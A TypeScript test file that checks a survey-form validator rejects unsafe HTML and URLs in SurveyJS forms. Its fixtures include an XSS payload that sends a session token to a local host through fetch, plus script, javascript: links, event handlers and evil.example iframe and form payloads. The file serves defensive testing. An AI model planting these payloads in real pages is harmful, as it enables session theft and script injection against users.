import { INSTRUMENTS } from './instruments';
import { markupProblems } from './markup';
import { validateSurvey } from './validate-survey';
import { FOREIGN_FORM } from './validate-survey.fixtures';

const LEAK = `<img src=x onerror="fetch('http://127.0.0.1:5999/?t='+sessionStorage.getItem('harbour.session'))">`;

/** A form whose every HTML-bearing text is `text`, in English and Welsh where SurveyJS allows both. */
function formHolding(text: string) {
  return {
    title: { default: 'Welcome', cy: text },
    description: text,
    completedHtml: text,
    completedBeforeHtml: text,
    completedHtmlOnCondition: [{ expression: '{q1} = 1', html: text }],
    pages: [
      {
        name: 'p1',
        title: text,
        elements: [
          { type: 'html', name: 'intro', html: { default: text } },
          { type: 'radiogroup', name: 'q1', title: 'Q', description: text, choices: [{ value: 1, text }, { value: 2, text: { default: 'Two', cy: text } }] },
          { type: 'matrix', name: 'm1', columns: [{ value: 1, text }], rows: [{ value: 'r', text }] },
        ],
      },
    ],
  };
}

describe('markupProblems', () => {
  it('finds script in every HTML-bearing text of a form, in every language, at its JSON path', () => {
    const paths = markupProblems(formHolding(LEAK)).map((p) => p.path);
    expect(paths).toEqual([
      '$.title.cy',
      '$.description',
      '$.completedHtml',
      '$.completedBeforeHtml',
      '$.completedHtmlOnCondition[0].html',
      '$.pages[0].title',
      '$.pages[0].elements[0].html.default',
      '$.pages[0].elements[1].description',
      '$.pages[0].elements[1].choices[0].text',
      '$.pages[0].elements[1].choices[1].text.cy',
      '$.pages[0].elements[2].columns[0].text',
      '$.pages[0].elements[2].rows[0].text',
    ]);
    expect(markupProblems(formHolding(LEAK))[0]!.message).toMatch(/^This text holds <img>, which forms may not carry/);
  });

  it.each([
    ['<script>alert(1)</script>', '<script>'],
    ['<a href="javascript:alert(1)">x</a>', 'href="javascript:alert(1)" on <a>'],
    ['<svg><animate onbegin=alert(1) attributeName=x /></svg>', '<svg>'],
    ['<iframe src="https://evil.example"></iframe>', '<iframe>'],
    ['<p style="background:url(https://evil.example/)">x</p>', 'style on <p>'],
    ['<form action="https://evil.example"><input name=p></form>', '<form>'],
    ['<b onmouseover="x()">bold</b>', 'onmouseover on <b>'],
  ])('names what it refuses: %s', (text, named) => {
    const [problem] = markupProblems({ pages: [{ name: 'p', elements: [{ type: 'html', name: 'h', html: text }] }] });
    expect(problem?.path).toBe('$.pages[0].elements[0].html');
    expect(problem?.message).toContain(named);
  });

  it('passes formatting, lists, tables and links, and expressions that compare', () => {
    const form = {
      completedHtml: '<h3>Thank you</h3><p>Your answers are <strong>saved</strong>. <a href="https://www.nhs.uk/">NHS</a> or <a href="mailto:help@example.nhs.uk">email</a>.</p><ul><li>One</li></ul><table><tr><th scope="col">A</th></tr><tr><td>1</td></tr></table>',
      pages: [{ name: 'p', elements: [{ type: 'rating', name: 'r', visibleIf: '{q} < 3 and {q} > 1' }, { type: 'text', name: 'q' }] }],
    };
    expect(markupProblems(form)).toEqual([]);
    for (const instrument of INSTRUMENTS) expect(markupProblems(instrument.json)).toEqual([]);
    expect(markupProblems(FOREIGN_FORM)).toEqual([]);
  });

  it('refuses addresses that run script or load from another site', () => {
    const problems = markupProblems({
      navigateToUrl: 'javascript:alert(1)',
      logo: 'https://tracker.example/pixel.png',
      pages: [{ name: 'p', elements: [{ type: 'image', name: 'i', imageLink: { default: 'data:text/html;base64,PHNjcmlwdD4=' } }] }],
    });
    expect(problems.map((p) => p.path)).toEqual(['$.navigateToUrl', '$.logo', '$.pages[0].elements[0].imageLink.default']);
    expect(problems[0]!.message).toMatch(/give a web page/);
    expect(markupProblems({ navigateToUrl: 'https://www.nhs.uk/', logo: '/logo.png', pages: [{ name: 'p', elements: [{ type: 'image', name: 'i', imageLink: 'data:image/png;base64,iVBORw0KGgo=' }] }] })).toEqual([]);
  });

  it('is part of every check of a form: validateSurvey refuses script', () => {
    const problems = validateSurvey(formHolding(LEAK));
    expect(problems.some((p) => p.path === '$.completedHtml' && /<img>/.test(p.message))).toBe(true);
  });
});
